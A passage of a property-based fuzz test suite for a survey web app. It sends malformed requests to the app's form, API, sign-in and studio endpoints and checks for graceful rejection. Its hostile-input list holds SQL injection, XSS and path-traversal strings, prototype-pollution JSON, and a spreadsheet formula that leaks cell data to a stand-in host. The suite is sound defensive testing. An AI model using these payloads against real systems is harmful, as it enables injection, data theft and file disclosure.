/**
 * Malformed and hostile input, property-based (fast-check), against every respondent and researcher endpoint
 * of the whole app: respondent form posts (`/s/:token`, preview, resume), the JSON API, sign-in, sign-out,
 * set-up, and every studio POST route (create, edit sections, launch/close/reopen, referrals, preview, exports,
 * roles), plus hostile query strings on GET pages. Payloads: wrong types, huge bodies (over the 256 KB limit),
 * deeply nested JSON (up to ~120,000 levels), invalid UTF-8 (raw bytes and percent-encoded), missing and extra
 * fields, out-of-range codes, duplicated keys (JSON and repeated form fields), prototype-pollution keys,
 * random bytes under mismatched content types, garbage cookies and CSRF tokens — signed out, signed in without
 * a CSRF token, and signed in with a valid one (so handlers behind the CSRF check are reached too).
 *
 * Checked for every request:
 * - never a 5xx (and the app never throws out of `inject`);
 * - every 4xx carries a message (JSON `error`, or an HTML page with a visible explanation);
 * - a rejected request (4xx) leaves the database unchanged: the row count of every table is the same before
 *   and after, except what the design records on purpose — a failed sign-in's audit entry, and a screened-out
 *   respondent's counter (422).
 *
 * The suite runs 5,000 generated requests on SQLite (and 1,000 on PostgreSQL when NABZ_TEST_PG_URL is set);
 * `node bench/fuzz.mjs` runs 100,000+ through this same file (NABZ_FUZZ_RUNS) and prints the counts.
 */
import { writeFileSync } from 'node:fs';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import fc from 'fast-check';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { createSession, DEFAULT_SESSION_POLICY } from '../../src/server/auth/session.js';
import { SECTIONS } from '../../src/server/studio/edit.js';
import { QUAL_TABLES, type Store, TABLES } from '../../src/store/index.js';
import {
  BACE_ITEMS,
  baceStudyDefinition,
  createStudy,
  FormBrowser,
  serverBackends,
  testApp,
} from './helpers.js';

const RUNS = Number(process.env.NABZ_FUZZ_RUNS ?? 5000);
const PG_RUNS = Number(process.env.NABZ_FUZZ_PG_RUNS ?? Math.min(RUNS, 1000));
const SEED = Number(process.env.NABZ_FUZZ_SEED ?? 20261122);

const ITEM_FIELDS = [
  'enrolled',
  'age',
  'gender',
  'training',
  'specialty',
  ...BACE_ITEMS.slice(0, 6),
  'bace3_30',
];
const RESPONDENT_FIELDS = ['_n', '_page', '_nav', '_idem', '_lang', '_r', '_consent', 'code', ...ITEM_FIELDS];
const RESEARCHER_FIELDS = [
  '_csrf',
  '_form',
  'action',
  'title',
  'description',
  'id',
  'url',
  'type',
  'text',
  'showIf',
  'role',
  'required',
  'referrals',
  'phone',
  'name',
  'hours',
  'options',
  'missing',
  'minCellSize',
  'labels',
  'integer',
  'min',
  'max',
  'instrument',
  'index',
  'includeTimes',
  'includeScores',
  'includeFreeText',
  'format',
  'email',
  'password',
  'password2',
  'next',
  'eligibleIf',
  'definition',
  'collectTimes',
  'anonymous',
  'acknowledge',
  'languages',
  'version',
  'consent',
  'ineligibleMessage',
];
const SPECIAL_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '',
  ' ',
  'a.b',
  'a[b]',
];
/** Strings that have broken real systems. */
const HOSTILE = [
  '',
  ' ',
  '-1',
  '4',
  '99',
  '2.5',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '0x1',
  ' 2',
  '٣',
  '²',
  'na',
  'NA',
  'true',
  'null',
  'undefined',
  '[]',
  '{}',
  '\u0000',
  '\ud800',
  '\udfff',
  '\uffff',
  '\u202e',
  '\r\n',
  '%',
  '%zz',
  '%FF%FE',
  "'; DROP TABLE responses; --",
  "1' OR '1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+1',
  '@SUM(1)',
  '../../../../etc/passwd',
  'goto:p1',
  'goto:review',
  'goto:../x',
  'next',
  'back',
  'save',
  'submit',
  'agree',
  'decline',
  'review',
  'consent',
  'owner',
  'analyst',
  'viewer',
  'admin',
  'csv',
  'sav',
  'xlsx',
  'scored',
  'codebook',
  'on',
  'ur',
  'en',
  'zz-ZZ',
  'owner@example.org',
  'a@b',
  'enrolled = 1',
  'age >',
  'training == 2 &&',
  'x'.repeat(300),
  'ع'.repeat(2000),
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.integer({ min: -1000, max: 1000 }).map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 60_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 30_000 }).map((d) => '['.repeat(d) + ']'.repeat(d)) },
  {
    weight: 1,
    arbitrary: fc.jsonValue({ maxDepth: 5 }).map((v) => JSON.stringify(v) ?? 'null'),
  },
);

const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(0, 1, 2, 3, 4, -1, 1.5, 1e308, -0, 'na', '2', true, null, [], {}, [1, 3]),
  },
  { weight: 1, arbitrary: hostileString },
);

/** Percent-encode any string (lone surrogates become U+FFFD; raw invalid sequences are generated elsewhere). */
const enc = (s: string) => encodeURIComponent(s.toWellFormed());

interface FuzzWorld {
  tokens: string[];
  ids: string[];
  /** The researchers' browsers: session token (re-created when a fuzzed sign-out ends it), CSRF secret cookie and token. */
  sessions: { userId: number; token: string; csrfCookie: string; csrf: string }[];
  csrfs: string[];
  liveKey: string;
  resumeCode: string;
  definition: unknown;
}

type Auth = 'signed-out' | 'session-no-csrf' | 'session-csrf' | 'garbage';

/** A request: where, how, the body bytes, and whose session (resolved when it is sent: sessions can end). */
interface Req {
  readonly method: 'GET' | 'POST';
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly payload?: Buffer | string;
  readonly remoteAddress: string;
  readonly auth: Auth;
  /** Index of the signed-in researcher (0 owner, 1 analyst, 2 viewer, 3 owner of another study). */
  readonly who: number;
  /** For the report. */
  readonly endpoint: string;
}

function pathTemplates(): { name: string; method: 'GET' | 'POST'; path: string }[] {
  return [
    { name: 'respondent form', method: 'POST', path: '/s/{tok}' },
    { name: 'respondent form (preview)', method: 'POST', path: '/s/{tok}?preview=1' },
    { name: 'resume code', method: 'POST', path: '/s/{tok}/resume' },
    { name: 'JSON API', method: 'POST', path: '/api/v1/s/{tok}/responses' },
    { name: 'sign-in', method: 'POST', path: '/signin' },
    { name: 'sign-out', method: 'POST', path: '/signout' },
    { name: 'set-up', method: 'POST', path: '/setup/{str}' },
    { name: 'studio: new study', method: 'POST', path: '/studies' },
    { name: 'studio: edit', method: 'POST', path: '/studies/{id}/edit/{section}' },
    { name: 'studio: launch', method: 'POST', path: '/studies/{id}/launch' },
    { name: 'studio: close', method: 'POST', path: '/studies/{id}/close' },
    { name: 'studio: reopen', method: 'POST', path: '/studies/{id}/reopen' },
    { name: 'studio: referrals', method: 'POST', path: '/studies/{id}/referrals' },
    { name: 'studio: preview', method: 'POST', path: '/studies/{id}/preview' },
    { name: 'studio: exports', method: 'POST', path: '/studies/{id}/exports' },
    { name: 'studio: roles', method: 'POST', path: '/studies/{id}/roles' },
    { name: 'studio: remove role', method: 'POST', path: '/studies/{id}/roles/remove' },
    { name: 'respondent page (query)', method: 'GET', path: '/s/{tok}?lang={q}&r={q}' },
    { name: 'sign-in page (query)', method: 'GET', path: '/signin?next={q}' },
    { name: 'studio: analysis (query)', method: 'GET', path: '/studies/{id}/analysis?group={q}' },
    { name: 'studio: page (query)', method: 'GET', path: '/studies/{id}/{page}?saved={q}' },
  ];
}

function randomRequestArb(w: FuzzWorld): fc.Arbitrary<Req> {
  const tok = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...w.tokens) },
    { weight: 1, arbitrary: fc.string({ maxLength: 80 }).map(enc) },
    { weight: 1, arbitrary: fc.constantFrom('..%2f..%2fetc', '%00', 'a'.repeat(300), '%E2%80%AE', 'x y') },
  );
  const id = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...w.ids) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '0',
        '-1',
        '1e3',
        '99999999999999999999',
        'abc',
        '1%20OR%201=1',
        '%00',
        '1.5',
      ),
    },
  );
  const query = hostileString.map((s) => enc(s.slice(0, 500)));
  const field = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...RESPONDENT_FIELDS) },
    { weight: 4, arbitrary: fc.constantFrom(...RESEARCHER_FIELDS) },
    { weight: 1, arbitrary: fc.constantFrom(...SPECIAL_KEYS) },
    { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
  );
  const value = fc.oneof(
    { weight: 3, arbitrary: hostileString },
    { weight: 2, arbitrary: fc.constantFrom(w.liveKey, w.resumeCode, ...w.csrfs, ...w.tokens, ...w.ids) },
  );
  const formFields = fc.array(fc.tuple(field, value), { maxLength: 16 });
  const formBody = fc.oneof(
    { weight: 5, arbitrary: formFields.map((f) => new URLSearchParams(f).toString()) },
    {
      // Invalid percent-encoding and invalid UTF-8 once decoded.
      weight: 1,
      arbitrary: fc
        .tuple(
          formFields,
          fc.constantFrom('%FF%FE', '%C3%28', '%', '%zz', '%E2%82', '%ED%A0%80', '%00', '&&&==&'),
        )
        .map(([f, bad]) => `${new URLSearchParams(f).toString()}&${bad}=${bad}`),
    },
  );
  const answers = fc.dictionary(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...ITEM_FIELDS) },
      { weight: 1, arbitrary: fc.constantFrom(...SPECIAL_KEYS) },
      { weight: 1, arbitrary: fc.string({ maxLength: 10 }) },
    ),
    hostileJson,
    { maxKeys: 12 },
  );
  const jsonText = fc.oneof(
    { weight: 3, arbitrary: hostileJson.map((v) => JSON.stringify(v) ?? 'null') },
    {
      weight: 5,
      arbitrary: fc
        .record(
          {
            answers: fc.oneof({ weight: 4, arbitrary: answers }, { weight: 1, arbitrary: hostileJson }),
            language: hostileJson,
            idempotencyKey: fc.oneof(fc.constant('fuzz-key-000001'), hostileJson),
            referral: hostileJson,
            extra: hostileJson,
          },
          { requiredKeys: [] },
        )
        .map((o) => JSON.stringify(o)),
    },
    {
      // Deep nesting, at the top and inside answers.
      weight: 1,
      arbitrary: fc
        .tuple(fc.integer({ min: 50, max: 120_000 }), fc.boolean())
        .map(([d, inside]) =>
          inside
            ? `{"answers":{"bace3_01":${'['.repeat(d)}${']'.repeat(d)}}}`
            : `${'{"a":'.repeat(Math.min(d, 40_000))}1${'}'.repeat(Math.min(d, 40_000))}`,
        ),
    },
    {
      // Duplicated keys: the second value wins in JSON.parse; neither may sneak past validation.
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...ITEM_FIELDS), hostileJson, hostileJson)
        .map(
          ([k, a, b]) =>
            `{"answers":{"${k}":${JSON.stringify(a) ?? 'null'},"${k}":${JSON.stringify(b) ?? 'null'}},"answers":{"${k}":1},"language":"en","language":"ur"}`,
        ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '{"__proto__":{"admin":true},"answers":{}}',
        '{"answers":{"__proto__":{"bace3_01":1}}}',
        '{"constructor":{"prototype":{"x":1}},"answers":{}}',
        '{"answers":{"constructor":1}}',
        '',
        'null',
        '[',
        '{"answers":',
        '{"answers":{}}garbage',
        '\ufeff{"answers":{}}',
        '{"answers":{"bace3_01":1e999}}',
        '{"answers":{"bace3_01":-0}}',
        '{"answers":{"age":123456789012345678901234567890}}',
      ),
    },
  );
  const invalidUtf8Json = fc
    .tuple(fc.constantFrom(...ITEM_FIELDS), fc.uint8Array({ minLength: 1, maxLength: 8 }))
    .map(([k, bytes]) =>
      Buffer.concat([
        Buffer.from(`{"answers":{"${k}":"`),
        Buffer.from([0xff, 0xfe, ...bytes, 0xc3]),
        Buffer.from('"},"language":"\xc3"}', 'latin1'),
      ]),
    );
  const huge = fc
    .integer({ min: 256 * 1024 + 1, max: 600 * 1024 })
    .map((n) => `{"answers":{"bace3_01":"${'x'.repeat(n)}"}}`);
  const contentType = fc.constantFrom(
    'application/json',
    'application/json; charset=utf-8',
    'application/json; charset=latin1',
    'application/x-www-form-urlencoded',
    'application/x-www-form-urlencoded; charset=utf-16',
    'text/plain',
    'multipart/form-data',
    'multipart/form-data; boundary=----x',
    'application/vnd.api+json',
    'application/xml',
    '',
  );
  const body = fc.oneof(
    { weight: 6, arbitrary: formBody.map((b) => ({ type: 'application/x-www-form-urlencoded', bytes: b })) },
    { weight: 6, arbitrary: jsonText.map((b) => ({ type: 'application/json', bytes: b })) },
    { weight: 1, arbitrary: invalidUtf8Json.map((b) => ({ type: 'application/json', bytes: b })) },
    {
      weight: 1,
      arbitrary: huge.map((b) => ({ type: 'application/json', bytes: b })),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 256 * 1024 + 1, max: 400 * 1024 })
        .map((n) => ({ type: 'application/x-www-form-urlencoded', bytes: `title=${'y'.repeat(n)}` })),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(contentType, fc.uint8Array({ maxLength: 400 }))
        .map(([type, bytes]) => ({ type, bytes: Buffer.from(bytes) })),
    },
    {
      // A well-formed body under the wrong content type.
      weight: 1,
      arbitrary: fc
        .tuple(contentType, fc.oneof(formBody, jsonText))
        .map(([type, bytes]) => ({ type, bytes })),
    },
  );
  const auth = fc.constantFrom<Auth>(
    'signed-out',
    'session-no-csrf',
    'session-csrf',
    'session-csrf',
    'garbage',
  );
  return fc
    .record({
      template: fc.constantFrom(...pathTemplates()),
      tok,
      id,
      str: fc.oneof(
        fc.constantFrom('abc', 'x'.repeat(150), '%00', '..'),
        fc.string({ maxLength: 40 }).map(enc),
      ),
      q: query,
      q2: query,
      section: fc.oneof(
        { weight: 5, arbitrary: fc.constantFrom(...SECTIONS) },
        { weight: 1, arbitrary: fc.constant('nope') },
      ),
      page: fc.constantFrom(
        '',
        'progress',
        'edit',
        'exports',
        'roles',
        'audit',
        'share',
        'preview',
        'qr.svg',
      ),
      body,
      auth,
      who: fc.integer({ min: 0, max: w.sessions.length - 1 }),
      idem: fc.oneof(
        fc.constant(undefined),
        fc.uuid(),
        fc.constantFrom('short', 'x'.repeat(200), 'with space key', 'fuzz-key-000001'),
      ),
      lang: fc.option(fc.constantFrom('ur', 'en;q=0', '*', 'x'.repeat(2000), 'ur-PK,ur;q=abc,en;q=0.8')),
      encoding: fc.option(fc.constantFrom('br', 'gzip', 'gzip;q=0, br', 'identity', '*')),
      ip: fc.ipV4(),
    })
    .map((r) => {
      const url = r.template.path
        .replace('{tok}', r.tok)
        .replace('{id}', r.id)
        .replace('{str}', r.str)
        .replace('{section}', r.section)
        .replace('{page}', r.page)
        .replace('{q}', r.q)
        .replace('{q}', r.q2)
        .replace(/\/\?/, '?')
        .replace(/\/$/, '');
      const headers: Record<string, string> = {};
      if (r.idem) headers['idempotency-key'] = r.idem;
      if (r.lang) headers['accept-language'] = r.lang;
      if (r.encoding) headers['accept-encoding'] = r.encoding;
      if (r.template.method === 'POST' && r.body.type) headers['content-type'] = r.body.type;
      return {
        method: r.template.method,
        url,
        headers,
        ...(r.template.method === 'POST' ? { payload: r.body.bytes } : {}),
        remoteAddress: r.ip,
        auth: r.auth,
        who: r.who,
        endpoint: r.template.name,
      };
    });
}

/** A complete, valid answer set for the test BACE study. */
function validAnswers(seed: number): Record<string, unknown> {
  const a: Record<string, unknown> = {
    enrolled: 1,
    age: 19 + (seed % 40),
    gender: 1 + (seed % 2),
    training: 1,
  };
  BACE_ITEMS.forEach((id, i) => {
    a[id] = (i + seed) % 4;
  });
  return a;
}

type Mutation =
  | { readonly kind: 'delete'; readonly key: string }
  | { readonly kind: 'set'; readonly key: string; readonly value: unknown };

const ALL_ITEMS = ['enrolled', 'age', 'gender', 'training', 'specialty', ...BACE_ITEMS];
const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('delete' as const), key: fc.constantFrom(...ALL_ITEMS) }),
  fc.record({ kind: fc.constant('set' as const), key: fc.constantFrom(...ALL_ITEMS), value: hostileJson }),
  fc.record({
    kind: fc.constant('set' as const),
    key: fc.oneof(
      fc.constantFrom(...SPECIAL_KEYS, 'bace3_31', 'bace3_00', 'phq9_1'),
      fc.string({ maxLength: 8 }),
    ),
    value: hostileJson,
  }),
);
function mutate(target: Record<string, unknown>, mutations: readonly Mutation[]): Record<string, unknown> {
  const out = { ...target };
  for (const m of mutations) {
    if (m.kind === 'delete') delete out[m.key];
    else
      Object.defineProperty(out, m.key, {
        value: m.value,
        enumerable: true,
        writable: true,
        configurable: true,
      });
  }
  return out;
}

/** Paths into a study definition where a hostile value is put (the studio's JSON editor). */
const DEFINITION_PATHS: readonly (readonly (string | number)[])[] = [
  ['id'],
  ['title'],
  ['languages'],
  ['instruments'],
  ['instruments', 0],
  ['instruments', 0, 'instrument'],
  ['instruments', 0, 'domains', 0, 'items'],
  ['instruments', 0, 'domains', 0, 'method'],
  ['questions', 0, 'options'],
  ['questions', 0, 'min'],
  ['questions', 3, 'showIf'],
  ['sections', 0, 'items'],
  ['collection', 'eligibility', 'eligibleIf'],
  ['collection', 'eligibility', 'questions', 0, 'options'],
  ['collection', 'consent', 'text', 'en'],
  ['collection', 'consent', 'version'],
  ['collection', 'supportContacts'],
  ['analysis', 'groupBy'],
  ['analysis', 'thresholds', 0, 'atLeast'],
];
function setPath(root: unknown, path: readonly (string | number)[], value: unknown): unknown {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let cur: Record<string | number, unknown> = copy;
  for (const k of path.slice(0, -1)) {
    const next = cur[k];
    if (typeof next !== 'object' || next === null) return copy;
    cur = next as Record<string | number, unknown>;
  }
  cur[path[path.length - 1]!] = value;
  return copy;
}

/**
 * Requests aimed past the front door: the right route with a valid session and CSRF token, and a body that is
 * valid except for one to three mutations (a missing answer, an out-of-range code, a wrong type, an unknown
 * item, a hostile value at one place of a study definition, …).
 */
function targetedRequestArb(w: FuzzWorld): fc.Arbitrary<Req> {
  const ip = fc.ipV4();
  const json = (endpoint: string, url: string, body: unknown, who = 0, auth: Auth = 'session-csrf') => ({
    method: 'POST' as const,
    url,
    headers: { 'content-type': 'application/json' },
    payload: JSON.stringify(body) ?? 'null',
    auth,
    who,
    endpoint,
  });
  const formReq = (
    endpoint: string,
    url: string,
    fields: [string, string][],
    who = 0,
    auth: Auth = 'session-csrf',
  ) => ({
    method: 'POST' as const,
    url,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    payload: new URLSearchParams(fields).toString(),
    auth,
    who,
    endpoint,
  });
  const hostileField = (names: readonly string[]) =>
    fc.array(fc.tuple(fc.constantFrom(...names), hostileString), { maxLength: 8 });
  const studyId = fc.oneof(
    { weight: 3, arbitrary: fc.constant(w.ids[2]!) }, // the draft
    { weight: 1, arbitrary: fc.constantFrom(...w.ids) },
  );
  const variants: fc.Arbitrary<Omit<Req, 'remoteAddress'>>[] = [
    // The JSON API, complete answers with mutations.
    fc
      .tuple(
        fc.nat(1000),
        fc.array(mutationArb, { minLength: 1, maxLength: 3 }),
        fc.uuid(),
        fc.option(hostileJson),
        fc.constantFrom(w.tokens[0]!, w.tokens[0]!, w.tokens[1]!),
      )
      .map(([seed, muts, key, lang, tok]) => ({
        ...json(
          'targeted: JSON API',
          `/api/v1/s/${tok}/responses`,
          {
            answers: mutate(validAnswers(seed), muts),
            ...(lang !== null ? { language: lang } : {}),
          },
          0,
          'signed-out',
        ),
        headers: { 'content-type': 'application/json', 'idempotency-key': key },
      })),
    // The respondent's live session (its cookie), posting a page with hostile fields at some step (`_n`: each
    // accepted post moves the session's step on, so a range of steps keeps reaching the page parser).
    fc
      .tuple(
        fc.constantFrom('consent', 'eligibility', 'e1', 'p1', 'p2', 'p3', 'review', 'x'),
        fc.integer({ min: 0, max: 60 }),
        hostileField([...RESPONDENT_FIELDS.filter((f) => f !== '_n' && f !== '_page'), ...ALL_ITEMS]),
      )
      .map(([page, step, fields]) => {
        const r = formReq(
          'targeted: respondent form',
          `/s/${w.tokens[0]}`,
          [['_n', String(step)], ['_page', page], ...fields],
          0,
          'signed-out',
        );
        return { ...r, headers: { ...r.headers, cookie: `nabz_s=${w.liveKey}` } };
      }),
    // The studio's JSON editor with a definition that is valid but for one place.
    fc
      .tuple(
        studyId,
        fc.constantFrom(...DEFINITION_PATHS),
        fc.oneof(
          hostileJson.map((v) => JSON.stringify(v) ?? 'null'),
          // Deep nesting as text (building it as a value would overflow the generator's own stack).
          fc.integer({ min: 100, max: 60_000 }).map((d) => '['.repeat(d) + ']'.repeat(d)),
        ),
      )
      .map(([id, path, valueText]) =>
        formReq('targeted: edit json', `/studies/${id}/edit/json`, [
          ['_form', 'json'],
          [
            'definition',
            JSON.stringify(setPath(w.definition, path, '\u0000HOLE')).replace(
              '"\\u0000HOLE"',
              () => valueText,
            ),
          ],
        ]),
      ),
    // Every other edit section with hostile fields.
    fc
      .tuple(
        studyId,
        fc.constantFrom(...SECTIONS.filter((x) => x !== 'json')),
        hostileField(RESEARCHER_FIELDS),
        fc.option(fc.constantFrom('add', 'remove', 'up', 'down', 'clear')),
      )
      .map(([id, section, fields, action]) =>
        formReq('targeted: edit section', `/studies/${id}/edit/${section}`, [
          ['_form', section],
          ...(action ? ([['action', action]] as [string, string][]) : []),
          ...fields,
        ]),
      ),
    // Exports by owner, analyst and viewer.
    fc
      .tuple(
        fc.constantFrom(...w.ids),
        fc.integer({ min: 0, max: 2 }),
        fc.constantFrom(
          'csv',
          'sav',
          'xlsx',
          'scored',
          'codebook',
          'codebook_csv',
          'pdf',
          '__proto__',
          'constructor',
        ),
        hostileField(['labels', 'missing', 'includeTimes', 'includeScores', 'includeFreeText']),
      )
      .map(([id, who, format, fields]) =>
        formReq('targeted: exports', `/studies/${id}/exports`, [['format', format], ...fields], who),
      ),
    // Roles.
    fc
      .tuple(
        fc.constantFrom('/roles', '/roles/remove'),
        fc.oneof(
          fc.constantFrom(
            'analyst@example.org',
            'viewer@example.org',
            'stranger@example.org',
            'owner@example.org',
            'OWNER@example.org ',
          ),
          hostileString,
        ),
        fc.oneof(fc.constantFrom('owner', 'analyst', 'viewer'), hostileString),
        fc.integer({ min: 0, max: 3 }),
      )
      .map(([path, email, role, who]) =>
        formReq(
          'targeted: roles',
          `/studies/${w.ids[0]}${path}`,
          [
            ['email', email],
            ['role', role],
          ],
          who,
        ),
      ),
    // A new study.
    fc
      .tuple(
        hostileString,
        fc.array(fc.oneof(fc.constantFrom('en', 'ur'), hostileString), { maxLength: 3 }),
        fc.array(fc.oneof(fc.constantFrom('bace3', 'phq9', 'gad7'), hostileString), { maxLength: 3 }),
        fc.boolean(),
      )
      .map(([title, langs, instruments, ack]) =>
        formReq('targeted: new study', '/studies', [
          ['title', title],
          ...langs.map((l): [string, string] => ['languages', l]),
          ...instruments.map((i): [string, string] => ['instruments', i]),
          ...(ack ? instruments.map((i): [string, string] => ['acknowledge', i]) : []),
        ]),
      ),
  ];
  return fc.tuple(fc.oneof(...variants), ip).map(([r, remoteAddress]) => ({ ...r, remoteAddress }));
}

function requestArb(w: FuzzWorld): fc.Arbitrary<Req> {
  return fc.oneof(
    { weight: 3, arbitrary: randomRequestArb(w) },
    { weight: 2, arbitrary: targetedRequestArb(w) },
  );
}

/** Row counts of every table (including the qualitative tables). */
const COUNT_ALL = sql.raw(
  `SELECT ${[...TABLES, ...QUAL_TABLES].map((t) => `(SELECT count(*) FROM ${t}) AS ${t}`).join(', ')}`,
);
async function rowCounts(store: Store): Promise<Record<string, number>> {
  // One query for all tables (the table names are the store's own constants).
  const { rows } = await COUNT_ALL.execute(store.db);
  return Object.fromEntries(
    Object.entries(rows[0] as Record<string, unknown>).map(([k, v]) => [k, Number(v)]),
  );
}

function visibleText(res: { body: string; rawPayload: Buffer; headers: Record<string, unknown> }): string {
  let text = res.body;
  const enc = res.headers['content-encoding'];
  try {
    if (enc === 'br') text = brotliDecompressSync(res.rawPayload).toString('utf8');
    else if (enc === 'gzip') text = gunzipSync(res.rawPayload).toString('utf8');
  } catch {
    return '';
  }
  if (String(res.headers['content-type'] ?? '').startsWith('application/json')) {
    try {
      // Every refusal, the router's own included (frameworkErrors in app.ts), carries `error`.
      const j = JSON.parse(text) as { error?: unknown };
      return typeof j.error === 'string' ? j.error : '';
    } catch {
      return '';
    }
  }
  const main = /<main[\s\S]*<\/main>/.exec(text)?.[0] ?? /<body[\s\S]*<\/body>/.exec(text)?.[0] ?? text;
  return main
    .replace(/<(script|style)[\s\S]*?<\/\1>/g, ' ')
    .replace(/<[^>]+>/g, ' ')
    .replace(/\s+/g, ' ')
    .trim();
}

interface FuzzReport {
  backend: string;
  runs: number;
  seed: number;
  statuses: Record<string, number>;
  byEndpoint: Record<string, Record<string, number>>;
  serverErrors: string[];
  /** 5xx counted by the error the server logged and the first line of nabz code in its stack. */
  serverErrorCauses: Record<string, number>;
  /** One error message per cause. */
  serverErrorExamples: Record<string, string>;
  /** The first requests that got a 5xx, whole (to replay them). */
  serverErrorRequests: { method: string; url: string; headers: Record<string, string>; payload: string }[];
  withoutMessage: string[];
  changedOnRejection: string[];
  thrown: string[];
}

async function fuzz(backendIndex: number, runs: number): Promise<FuzzReport> {
  const backend = serverBackends()[backendIndex]!;
  // The server log: a 5xx is grouped by where its error was thrown (cleared after every request).
  const log: string[] = [];
  const t = await testApp({ backend, config: { submitRateLimitPerMinute: 1_000_000_000 }, log });
  try {
    // The world: an owner with an open, a closed and a draft study; another owner's study; an analyst and a
    // viewer; a respondent mid-way (live session key) and a saved resume code.
    const owner = await t.createUser({ email: 'owner@example.org' });
    const analyst = await t.createUser({ email: 'analyst@example.org' });
    const viewer = await t.createUser({ email: 'viewer@example.org' });
    const stranger = await t.createUser({ email: 'stranger@example.org' });
    const def = baceStudyDefinition();
    const open = await createStudy(t.store, { ownerId: owner.id, definition: def });
    const closed = await createStudy(t.store, { ownerId: owner.id, definition: def, status: 'closed' });
    const draft = await createStudy(t.store, { ownerId: owner.id, definition: def, status: 'draft' });
    const other = await createStudy(t.store, { ownerId: stranger.id, definition: def });
    await t.store.roles.grant({ studyId: open.id, userId: analyst.id, role: 'analyst' });
    await t.store.roles.grant({ studyId: open.id, userId: viewer.id, role: 'viewer' });
    const signed = [
      await t.signIn(owner.email),
      await t.signIn(analyst.email),
      await t.signIn(viewer.email),
      await t.signIn(stranger.email),
    ];
    const b = new FormBrowser(t.app);
    await b.get(`/s/${open.publicToken}`);
    await b.submit({}, { name: '_consent', value: 'agree' });
    const liveKey = b.cookies().nabz_s ?? 'none';
    const s = new FormBrowser(t.app);
    await s.get(`/s/${open.publicToken}`);
    await s.submit({}, { name: '_consent', value: 'agree' });
    await s.submit({ enrolled: '1' }, { name: '_nav', value: 'save' });
    const resumeCode = /<p class="code">([A-Z0-9-]+)<\/p>/.exec(s.html)?.[1] ?? 'NONE-CODE';
    const cookieValue = (cookie: string, name: string) =>
      cookie
        .split(';')
        .map((p) => p.trim())
        .find((p) => p.startsWith(`${name}=`))
        ?.slice(name.length + 1) ?? '';
    const world: FuzzWorld = {
      tokens: [open.publicToken, closed.publicToken, draft.publicToken, other.publicToken],
      ids: [String(open.id), String(closed.id), String(draft.id), String(other.id)],
      sessions: signed.map((x) => ({
        userId: x.user.id,
        token: cookieValue(x.cookie, 'nabz_session'),
        csrfCookie: cookieValue(x.cookie, '_csrf'),
        csrf: x.csrf,
      })),
      csrfs: signed.map((x) => x.csrf),
      liveKey,
      resumeCode,
      definition: def,
    };
    /** The browser's cookie header; a session ended by a fuzzed sign-out is replaced (through the store). */
    const browser = async (who: number): Promise<{ cookie: string; csrf: string }> => {
      const sess = world.sessions[who]!;
      if (!(await t.store.sessions.getValid(sess.token, new Date(t.now())))) {
        sess.token = await createSession(t.store, sess.userId, t.now, DEFAULT_SESSION_POLICY);
        before = await rowCounts(t.store);
      }
      return { cookie: `_csrf=${sess.csrfCookie}; nabz_session=${sess.token}`, csrf: sess.csrf };
    };

    let before = await rowCounts(t.store);
    const report: FuzzReport = {
      backend: backend.name,
      runs,
      seed: SEED,
      statuses: {},
      byEndpoint: {},
      serverErrors: [],
      serverErrorCauses: {},
      serverErrorExamples: {},
      serverErrorRequests: [],
      withoutMessage: [],
      changedOnRejection: [],
      thrown: [],
    };
    let lastAudit = Number(before.audit_log);
    await fc.assert(
      fc.asyncProperty(requestArb(world), async (req) => {
        const headers = { ...req.headers };
        let payload = req.payload;
        if (req.auth === 'garbage') headers.cookie = 'nabz_session=AAAAAAAAAAAAAAAAAAAAAAAA; _csrf=%%%';
        else if (req.auth !== 'signed-out') {
          const br = await browser(req.who);
          headers.cookie = br.cookie;
          if (req.auth === 'session-csrf') {
            headers['x-csrf-token'] = br.csrf;
            if (
              typeof payload === 'string' &&
              String(headers['content-type']).startsWith('application/x-www-form-urlencoded')
            )
              payload = `${payload}${payload ? '&' : ''}_csrf=${enc(br.csrf)}`;
          }
        }
        const describeReq = () =>
          `${req.method} ${req.url.slice(0, 160)} [${req.endpoint}, ${req.auth}, ${req.who}] ${JSON.stringify(headers).slice(0, 200)} body=${JSON.stringify((typeof payload === 'string' ? payload : (payload?.toString('latin1') ?? '')).slice(0, 300))}`;
        let res: Awaited<ReturnType<typeof t.app.inject>>;
        try {
          res = await t.app.inject({
            method: req.method,
            url: req.url,
            headers,
            remoteAddress: req.remoteAddress,
            ...(payload !== undefined ? { payload } : {}),
          });
        } catch (e) {
          report.thrown.push(`${String(e).slice(0, 200)} ← ${describeReq()}`);
          return;
        }
        const status = res.statusCode;
        report.statuses[status] = (report.statuses[status] ?? 0) + 1;
